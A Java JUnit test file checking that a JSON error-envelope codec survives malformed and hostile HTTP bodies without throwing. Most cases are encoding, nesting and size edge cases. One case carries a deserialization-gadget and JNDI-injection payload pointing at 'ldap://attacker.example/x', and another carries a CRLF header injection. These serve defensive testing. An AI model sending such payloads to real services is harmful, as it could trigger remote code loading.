package dev.errata.catalog;

import static com.google.common.truth.Truth.assertThat;
import static com.google.common.truth.Truth.assertWithMessage;
import static dev.errata.catalog.EnvelopeCodecTest.KEYBANK_EXCEPTION;
import static dev.errata.catalog.EnvelopeCodecTest.KHIPU_EXAMPLE;
import static dev.errata.catalog.EnvelopeCodecTest.failure;
import static dev.errata.catalog.EnvelopeCodecTest.utf8;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;

import dev.errata.catalog.TestCatalog.KeyBankCode;
import dev.errata.catalog.TestCatalog.KhipuCode;
import dev.errata.catalog.TestCatalog.TestException;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Malformed and hostile bodies: whatever the body, decoding never throws, keeps the status and the exact
 * bytes, and says in {@link ErrorReport#problem()} why a body could not be read.
 */
class HostileBodiesTest {

  private static final int[] STATUSES = {200, 401, 500};
  private static final int MIB = 1 << 20;

  private static final EnvelopeCodec KHIPU = new EnvelopeCodec(TestCatalog.KHIPU);
  private static final EnvelopeCodec KEYBANK = new EnvelopeCodec(TestCatalog.KEYBANK);

  /** What the codec makes of a body. */
  enum Expect {
    /** No body to speak of: nothing read, and nothing wrong either. */
    EMPTY,
    /** Read in full: no problem. */
    READ,
    /** Parsed, but part of it is not what the envelope expects: a problem. */
    PROBLEM,
    /** Not parsed at all: a problem, and nothing taken from the body. */
    UNREADABLE
  }

  /**
   * One hostile body, what each format makes of it, and a word its problem must contain (or {@code null}).
   */
  record Case(String name, byte[] body, Expect khipu, Expect keyBank, String mention) {
    static Case of(String name, byte[] body, Expect expect, String mention) {
      return new Case(name, body, expect, expect, mention);
    }

    static Case of(String name, String body, Expect expect, String mention) {
      return of(name, utf8(body), expect, mention);
    }

    @Override
    public String toString() {
      return name + " (" + body.length + " bytes)";
    }
  }

  static Stream<Case> hostileBodies() {
    List<Case> cases = new ArrayList<>();
    Expect empty = Expect.EMPTY;
    Expect read = Expect.READ;
    Expect problem = Expect.PROBLEM;
    Expect unreadable = Expect.UNREADABLE;

    // Nothing, or nearly.
    cases.add(Case.of("empty", "", empty, null));
    cases.add(Case.of("whitespace", " \t\r\n  \n", empty, null));
    cases.add(Case.of("null", "null", problem, "null"));
    cases.add(Case.of("empty object", "{}", read, null));
    cases.add(Case.of("empty array", "[]", problem, "array"));
    cases.add(Case.of("lone open brace", "{", unreadable, "not valid JSON"));
    cases.add(Case.of("lone close brace", "}", unreadable, "not valid JSON"));
    cases.add(Case.of("non-breaking spaces only", "\u00a0\u00a0", unreadable, "not valid JSON"));

    // Not JSON at all.
    cases.add(Case.of("plain text", "Service Unavailable", unreadable, "not valid JSON"));
    cases.add(Case.of("HTML error page", """
        <!DOCTYPE html>
        <html><head><title>502 Bad Gateway</title></head>
        <body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>
        """, unreadable, "not valid JSON"));
    cases.add(Case.of("XML", "<?xml version=\"1.0\"?><Error><Code>E201</Code></Error>", unreadable, null));
    cases.add(Case.of("JSON hijacking prefix", ")]}',\n" + KHIPU_EXAMPLE, unreadable, "not valid JSON"));
    cases.add(Case.of("binary garbage", randomBytes(512, 42), unreadable, null));
    cases.add(Case.of("NUL bytes", new byte[16], unreadable, null));
    cases.add(Case.of("NUL byte before the object", "\u0000" + KHIPU_EXAMPLE, unreadable, null));

    // Encodings.
    cases.add(Case.of("invalid UTF-8 in the code", concat(
        utf8("{\"Status\":\"ERROR\",\"Error\":{\"Code\":\"E2"), new byte[] {(byte) 0xC3, 0x28},
        utf8("1\"}}")), unreadable, "UTF-8"));
    cases.add(Case.of("0xFF byte in a string", concat(
        utf8("{\"Status\":\"ERROR\",\"Error\":{\"Description\":\""), new byte[] {(byte) 0xFF},
        utf8("\"}}")), unreadable, "UTF-8"));
    // Jackson 2's UTF-8 decoder lets these through (an overlong '/', a surrogate, a code point past
    // U+10FFFF): the strings read are odd, but the raw bytes are kept and nothing escapes. Jackson 3's
    // refuses them as invalid UTF-8, as RFC 3629 says; the raw bytes are kept all the same.
    boolean lenient = JsonBackends.chosen().equals(Jackson2Backend.NAME);
    Expect oddUtf8 = lenient ? read : unreadable;
    String oddUtf8Problem = lenient ? null : "UTF-8";
    cases.add(Case.of("overlong UTF-8 slash", invalidUtf8InDescription(0xC0, 0xAF), oddUtf8, oddUtf8Problem));
    cases.add(Case.of("overlong 3-byte UTF-8 slash", invalidUtf8InDescription(0xE0, 0x80, 0xAF), oddUtf8,
        oddUtf8Problem));
    cases.add(Case.of("UTF-8-encoded surrogate", invalidUtf8InDescription(0xED, 0xA0, 0x80), oddUtf8,
        oddUtf8Problem));
    cases.add(Case.of("UTF-8 past U+10FFFF", invalidUtf8InDescription(0xF4, 0x90, 0x80, 0x80), oddUtf8,
        oddUtf8Problem));
    cases.add(Case.of("5-byte UTF-8 form", invalidUtf8InDescription(0xF8, 0x88, 0x80, 0x80, 0x80),
        unreadable, "UTF-8"));
    cases.add(Case.of("truncated UTF-8 sequence at the end", concat(
        utf8("{\"Status\":\"ERROR\",\"Error\":{\"Description\":\"caf"), new byte[] {(byte) 0xC3}),
        unreadable, null));
    cases.add(Case.of("UTF-8 BOM then the example", concat(
        new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(KHIPU_EXAMPLE)), read, null));
    cases.add(Case.of("UTF-8 BOM alone", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, unreadable, null));
    cases.add(Case.of("UTF-16BE with BOM", ("\ufeff" + KHIPU_EXAMPLE).getBytes(StandardCharsets.UTF_16BE),
        read, null));
    cases.add(Case.of("UTF-16LE without BOM", KHIPU_EXAMPLE.getBytes(StandardCharsets.UTF_16LE), read, null));
    cases.add(Case.of("UTF-32BE", KHIPU_EXAMPLE.getBytes(Charset.forName("UTF-32BE")), read, null));
    cases.add(Case.of("UTF-16 BOM alone", new byte[] {(byte) 0xFE, (byte) 0xFF}, unreadable, null));

    // A JSON value that is not an object.
    cases.add(Case.of("array root", "[" + KHIPU_EXAMPLE + "]", problem, "array"));
    cases.add(Case.of("string root", "\"ERROR\"", problem, "string"));
    cases.add(Case.of("double-encoded JSON", "\"{\\\"Status\\\":\\\"ERROR\\\"}\"", problem, "string"));
    cases.add(Case.of("number root", "500", problem, "number"));
    cases.add(Case.of("negative float root", "-1.5e3", problem, "number"));
    cases.add(Case.of("boolean root", "true", problem, "boolean"));

    // Wrong JSON types at the pointers. KeyBank has no code or type field.
    cases.add(new Case("code as object",
        utf8("{\"Status\":\"ERROR\",\"Error\":{\"Code\":{\"value\":\"E201\"}}}"), problem, read, "code"));
    cases.add(new Case("code as array",
        utf8("{\"Status\":\"ERROR\",\"Error\":{\"Code\":[\"E201\"]}}"), problem, read, "code"));
    cases.add(Case.of("code as number", "{\"Status\":\"ERROR\",\"Error\":{\"Code\":201}}", read, null));
    cases.add(Case.of("code as boolean", "{\"Status\":\"ERROR\",\"Error\":{\"Code\":true}}", read, null));
    cases.add(Case.of("code as huge exponent", "{\"Status\":\"ERROR\",\"Error\":{\"Code\":1e999999999}}",
        read, null));
    cases.add(Case.of("huge negative exponents everywhere",
        "{\"Error\":{\"Code\":-1e-999999999},\"TransactionId\":1E+999999999,\"ServiceError\":[1e999999999]}",
        read, null));
    cases.add(new Case("type as object",
        utf8("{\"Status\":\"ERROR\",\"Error\":{\"Code\":\"E201\",\"Type\":{\"retry\":true}}}"), problem, read,
        "type"));
    cases.add(Case.of("description as array", "{\"Error\":{\"Description\":[\"a\"]},\"ErrorMessage\":[\"a\"]}",
        problem, "description"));
    cases.add(Case.of("status as object", "{\"Status\":{\"value\":\"OK\"},\"responseHeader\":{\"status\":{}}}",
        problem, "status"));
    cases.add(Case.of("correlation id as array", "{\"OperationId\":[1],\"X-CorrelationId\":[1]}",
        problem, "correlation id"));
    cases.add(Case.of("every field of the wrong type", """
        {"OperationId": {}, "Status": [], "Error": {"Code": [], "Type": {}, "Description": {}},
         "ErrorMessage": [], "X-CorrelationId": {}, "responseHeader": {"status": []},
         "TransactionId": {}, "TransactionTime": [], "ServiceError": "text"}
        """, problem, null));
    cases.add(Case.of("containers of the wrong type on the way", """
        {"Status": "ERROR", "Error": "E201", "responseHeader": [{"status": "F"}]}
        """, read, null));
    cases.add(Case.of("error as array", "{\"Status\":\"ERROR\",\"Error\":[{\"Code\":\"E201\"}]}", read, null));

    // Nulls and missing fields.
    cases.add(Case.of("nulls everywhere", """
        {"OperationId": null, "Status": null, "Data": null, "Error": {"Code": null, "Type": null,
         "Description": null}, "ErrorMessage": null, "X-CorrelationId": null, "TransactionId": null,
         "TransactionTime": null, "ServiceError": null, "responseHeader": {"status": null}}
        """, read, null));
    cases.add(Case.of("error null", "{\"Status\":\"ERROR\",\"Error\":null}", read, null));
    cases.add(Case.of("status only", "{\"Status\":\"ERROR\"}", read, null));
    cases.add(Case.of("empty error", "{\"Error\":{}}", read, null));
    cases.add(Case.of("empty strings", "{\"Status\":\"\",\"Error\":{\"Code\":\"\",\"Type\":\"\"}}", read, null));
    cases.add(Case.of("unrelated object", "{\"message\":\"Internal Server Error\",\"path\":\"/v1/x\"}",
        read, null));

    // Ambiguous or non-standard JSON.
    cases.add(Case.of("duplicated keys", """
        {"Status": "OK", "Status": "ERROR", "Error": {"Code": "A000", "Code": "E201"}}
        """, read, null));
    cases.add(Case.of("trailing garbage", "{\"Status\":\"OK\"} <html>", problem, "after"));
    cases.add(Case.of("two concatenated objects",
        "{\"Status\":\"OK\"}" + KHIPU_EXAMPLE, problem, "after"));
    cases.add(Case.of("NaN", "{\"Status\":\"ERROR\",\"Error\":{\"Code\":NaN}}", unreadable, null));
    cases.add(Case.of("Infinity", "{\"TransactionId\":Infinity}", unreadable, null));
    cases.add(Case.of("-Infinity", "{\"TransactionId\":-Infinity}", unreadable, null));
    cases.add(Case.of("leading zeros", "{\"TransactionId\":0123}", unreadable, null));
    cases.add(Case.of("line comment", "// error\n" + KHIPU_EXAMPLE, unreadable, null));
    cases.add(Case.of("block comment", "{/* c */\"Status\":\"ERROR\"}", unreadable, null));
    cases.add(Case.of("trailing comma in object", "{\"Status\":\"ERROR\",}", unreadable, null));
    cases.add(Case.of("trailing comma in array", "{\"ServiceError\":[1,2,]}", unreadable, null));
    cases.add(Case.of("single quotes", "{'Status':'ERROR'}", unreadable, null));
    cases.add(Case.of("unquoted keys", "{Status:\"ERROR\"}", unreadable, null));
    cases.add(Case.of("raw control character", "{\"Error\":{\"Description\":\"a\u0001b\"}}", unreadable, null));
    cases.add(Case.of("raw newline in a string", "{\"Error\":{\"Description\":\"a\nb\"}}", unreadable, null));
    cases.add(Case.of("escaped control characters", """
        {"Error": {"Code": "E201\\r\\nX-Injected: 1", "Description": "\\u0000\\u001b[31m\\b\\f"}}
        """, read, null));
    cases.add(Case.of("unpaired surrogate escapes", """
        {"Error": {"Code": "\\ud800", "Description": "\\udc00 then \\ud83d alone"},
         "ErrorMessage": "\\ud800", "TransactionId": "\\udfff"}
        """, read, null));
    cases.add(Case.of("unicode escapes", "{\"Error\":{\"Code\":\"\\u0045\\u0032\\u00301\"}}", read, null));
    cases.add(Case.of("invalid escape", "{\"Error\":{\"Code\":\"\\x45\"}}", unreadable, null));
    cases.add(Case.of("truncated unicode escape", "{\"Error\":{\"Code\":\"\\u00", unreadable, null));
    cases.add(Case.of("unterminated string", "{\"Error\":{\"Code\":\"E201}}", unreadable, null));
    cases.add(Case.of("polymorphic type hints", """
        {"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://attacker.example/x",
         "Status": "ERROR", "Error": {"@type": "java.lang.ProcessBuilder", "Code": "E201"},
         "ServiceError": ["java.util.HashMap", {"@c": ".Foo"}], "TransactionId": "${jndi:ldap://x/}"}
        """, read, null));

    // Past the limits.
    cases.add(Case.of("10,000 open brackets", "[".repeat(10_000), unreadable, "nesting depth"));
    cases.add(Case.of("10,000 nested objects", "{\"a\":".repeat(10_000), unreadable, "nesting depth"));
    cases.add(Case.of("10,000 balanced nested arrays", "[".repeat(10_000) + "]".repeat(10_000),
        unreadable, "nesting depth"));
    cases.add(Case.of("deep nesting under the code",
        "{\"Status\":\"ERROR\",\"Error\":{\"Code\":" + "[".repeat(100) + "]".repeat(100) + "}}",
        unreadable, "nesting depth"));
    cases.add(Case.of("nesting one past the limit", nested(65), unreadable, "nesting depth"));
    cases.add(Case.of("nesting at the limit", nested(64), read, null));
    cases.add(Case.of("body one byte over the limit", bodyOfSize(MIB + 1), unreadable, "limit"));
    cases.add(Case.of("body at the limit", bodyOfSize(MIB), read, null));
    cases.add(Case.of("5 MB body", bodyOfSize(5 * MIB), unreadable, "limit"));
    cases.add(Case.of("5 MB of whitespace", " ".repeat(5 * MIB), empty, null));
    cases.add(Case.of("string over the string limit",
        "{\"ErrorMessage\":\"" + "x".repeat(MIB + 1) + "\"}", unreadable, "limit"));
    cases.add(Case.of("10,000-digit number", "{\"TransactionId\":" + "9".repeat(10_000) + "}",
        unreadable, "number value length"));
    cases.add(Case.of("10,000-digit code", "{\"Error\":{\"Code\":" + "1".repeat(10_000) + "}}",
        unreadable, "number value length"));
    cases.add(Case.of("10,000-digit fraction", "{\"TransactionId\":0." + "1".repeat(10_000) + "}",
        unreadable, "number value length"));
    cases.add(Case.of("60,000-character key", "{\"" + "k".repeat(60_000) + "\":1}", unreadable, "limit"));
    cases.add(Case.of("50,000 keys", manyKeys(50_000), read, null));

    // The example cut short: a connection that dropped mid-body. Every cut is invalid JSON.
    byte[] example = utf8(KHIPU_EXAMPLE.strip());
    for (int cut = 1; cut < example.length; cut += 9) {
      cases.add(Case.of("example cut at byte " + cut, Arrays.copyOf(example, cut),
          unreadable, "not valid JSON"));
    }
    cases.add(Case.of("example without its last brace",
        Arrays.copyOf(example, example.length - 1), unreadable, "not valid JSON"));
    byte[] keyBankExample = utf8(KEYBANK_EXCEPTION.strip());
    for (int cut = 5; cut < keyBankExample.length; cut += 53) {
      cases.add(Case.of("KeyBank exception cut at byte " + cut, Arrays.copyOf(keyBankExample, cut),
          unreadable, "not valid JSON"));
    }
    return cases.stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileBodies")
  void neverThrowsAndKeepsStatusAndBody(Case hostile) {
    List<Executable> checks = new ArrayList<>();
    for (int status : STATUSES) {
      checks.add(() -> check(hostile, KHIPU, hostile.khipu(), status, TestCatalog::khipuException));
      checks.add(() -> check(hostile, KEYBANK, hostile.keyBank(), status, TestCatalog::keyBankException));
    }
    assertAll(hostile.toString(), checks.stream());
  }

  private static void check(
      Case hostile,
      EnvelopeCodec codec,
      Expect expect,
      int status,
      Function<ErrorReport, TestException> toException) {
    String where = hostile.name() + ", " + (codec == KHIPU ? "Khipu" : "KeyBank") + ", HTTP " + status;
    Decoded<TestException> decoded =
        assertDoesNotThrow(() -> codec.decode(status, hostile.body().clone(), Map.of(), toException), where);
    ErrorReport read = assertDoesNotThrow(() -> codec.read(status, hostile.body().clone(), null), where);
    ErrorReport report = decoded.report();
    assertWithMessage("%s", where).that(report).isEqualTo(read);
    assertWithMessage("%s", where).that(report.httpStatus()).isEqualTo(status);
    assertWithMessage("%s", where).that(report.body()).isEqualTo(hostile.body());

    String problem = report.problem();
    String codeFromStatus = codec == KEYBANK ? Integer.toString(status) : null;
    switch (expect) {
      case EMPTY -> {
        assertWithMessage("%s", where).that(problem).isNull();
        assertNothingRead(report, codeFromStatus, where);
      }
      case READ -> assertWithMessage("%s", where).that(problem).isNull();
      case PROBLEM -> assertWithMessage("%s", where).that(problem).isNotNull();
      case UNREADABLE -> {
        assertWithMessage("%s", where).that(problem).isNotNull();
        assertNothingRead(report, codeFromStatus, where);
      }
    }
    if (problem != null) {
      // Problems name what went wrong in a line: they end up in logs, so never the body itself.
      assertWithMessage("%s", where + ": problem of " + problem.length() + " characters").that(problem.length() < 500).isTrue();
      if (hostile.mention() != null) {
        assertWithMessage("%s", where + ": problem \"" + problem + "\" does not mention " + hostile.mention()).that(problem.toLowerCase(Locale.ROOT)).contains(hostile.mention().toLowerCase(Locale.ROOT));
      }
    }
    if (status < 200 || status > 299) {
      TestException error = failure(decoded);
      if (expect == Expect.EMPTY || expect == Expect.UNREADABLE) {
        ErrorCode typedByStatus = codec == KHIPU
            ? KhipuCode.forHttpStatus(status)
            : KeyBankCode.match(Integer.toString(status));
        assertWithMessage("%s", where).that(error.errorCode()).isSameInstanceAs(typedByStatus);
      }
    }
  }

  private static void assertNothingRead(ErrorReport report, String code, String where) {
    assertWithMessage("%s", where).that(report.code()).isEqualTo(code);
    assertWithMessage("%s", where).that(report.type()).isNull();
    assertWithMessage("%s", where).that(report.description()).isNull();
    assertWithMessage("%s", where).that(report.correlationId()).isNull();
    assertWithMessage("%s", where).that(report.bodyStatus()).isNull();
    assertWithMessage("%s", where).that(report.attributes()).isEqualTo(Map.of());
  }

  @Test
  void anUnreadableBodyOfAnErrorStatusIsTheUnknownError() {
    TestException khipu = failure(KHIPU.decode(500, utf8("<html>oops</html>"), null,
        TestCatalog::khipuException));
    assertThat(khipu.errorCode()).isSameInstanceAs(KhipuCode.UNKNOWN);
    assertThat(khipu.code()).isEqualTo("");
    TestException keyBank = failure(KEYBANK.decode(418, utf8("<html>oops</html>"), null,
        TestCatalog::keyBankException));
    assertThat(keyBank.errorCode()).isSameInstanceAs(KeyBankCode.UNKNOWN);
    assertThat(keyBank.code()).isEqualTo("418");
  }

  @Test
  void overTheBodyLimitTheProblemNamesTheLimit() {
    String problem = KHIPU.read(500, bodyOfSize(5 * MIB), null).problem();
    assertThat(problem).contains(5 * MIB + " bytes");
    assertThat(problem).contains(MIB + "-byte limit");
  }

  @Test
  void overTheNestingLimitTheProblemNamesTheLimit() {
    String problem = KHIPU.read(500, utf8("[".repeat(10_000)), null).problem();
    assertThat(problem).contains("limit");
    assertThat(problem).contains("nesting depth");
    assertThat(problem).contains("64");
  }

  @Test
  void aByteOrderMarkIsSkipped() {
    byte[] body = concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(KHIPU_EXAMPLE));
    TestException error = failure(KHIPU.decode(200, body, null, TestCatalog::khipuException));
    assertThat(error.code()).isEqualTo("E201");
    assertThat(error.report().problem()).isNull();
  }

  @Test
  void theLastOfDuplicatedKeysWins() {
    TestException error = failure(KHIPU.decode(200,
        utf8("{\"Status\":\"OK\",\"Status\":\"ERROR\",\"Error\":{\"Code\":\"A000\",\"Code\":\"E201\"}}"), null,
        TestCatalog::khipuException));
    assertThat(error.code()).isEqualTo("E201");
    assertThat(error.report().bodyStatus()).isEqualTo("ERROR");
  }

  @Test
  void contentAfterTheJsonValueIsAProblemButWhatWasReadIsKept() {
    TestException error = failure(KHIPU.decode(200, utf8(KHIPU_EXAMPLE + "{\"Status\":\"OK\"}"), null,
        TestCatalog::khipuException));
    assertThat(error.code()).isEqualTo("E201");
    assertThat(error.report().problem()).isNotNull();

    ErrorReport report = KHIPU.read(200, utf8("{\"Status\":\"OK\"}\n<html>"), null);
    assertThat(report.bodyStatus()).isEqualTo("OK");
    assertThat(report.problem()).contains("after");
  }

  @Test
  void escapesAreDecoded() {
    ErrorReport report = KHIPU.read(500, utf8("""
        {"Error": {"Code": "\\u0045201", "Description": "\\ud800 \\"quoted\\" \\u00e9\\r\\n"}}
        """), null);
    assertThat(report.code()).isEqualTo("E201");
    assertThat(report.description()).isEqualTo("\ud800 \"quoted\" \u00e9\r\n");
  }

  @Test
  void aWrongTypedFieldIsAProblemButTheOtherFieldsAreRead() {
    ErrorReport report = KHIPU.read(500, utf8(
        "{\"OperationId\":\"op\",\"Status\":\"ERROR\",\"Error\":{\"Code\":{\"v\":1},\"Description\":\"d\"}}"), null);
    assertThat(report.code()).isNull();
    assertThat(report.correlationId()).isEqualTo("op");
    assertThat(report.description()).isEqualTo("d");
    assertThat(report.problem()).contains("/Error/Code");
    assertThat(report.problem()).contains("object");
  }

  static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  private static byte[] invalidUtf8InDescription(int... bytes) {
    byte[] raw = new byte[bytes.length];
    for (int i = 0; i < bytes.length; i++) {
      raw[i] = (byte) bytes[i];
    }
    return concat(utf8("{\"Status\":\"ERROR\",\"Error\":{\"Description\":\"a"), raw, utf8("b\"}}"));
  }

  private static byte[] randomBytes(int size, long seed) {
    byte[] bytes = new byte[size];
    new Random(seed).nextBytes(bytes);
    return bytes;
  }

  /** Valid JSON nested {@code depth} levels deep, the root object included. */
  static String nested(int depth) {
    return "{\"ServiceError\":" + "[".repeat(depth - 1) + "]".repeat(depth - 1) + "}";
  }

  /** A valid KeyBank-like body of exactly {@code size} bytes, its strings well under the string limit. */
  static byte[] bodyOfSize(int size) {
    StringBuilder body = new StringBuilder("{\"ErrorMessage\":\"big\",\"ServiceError\":[");
    String chunk = "\"" + "x".repeat(1000) + "\",";
    while (body.length() + chunk.length() + 4 < size) {
      body.append(chunk);
    }
    body.append("\"");
    body.append("y".repeat(size - body.length() - 3));
    body.append("\"]}");
    assertThat(body.length()).isEqualTo(size);
    return utf8(body.toString());
  }

  private static String manyKeys(int count) {
    StringBuilder body = new StringBuilder("{\"ServiceError\":{");
    for (int i = 0; i < count; i++) {
      body.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i % 10);
    }
    return body.append("},\"Status\":\"ERROR\"}").toString();
  }
}
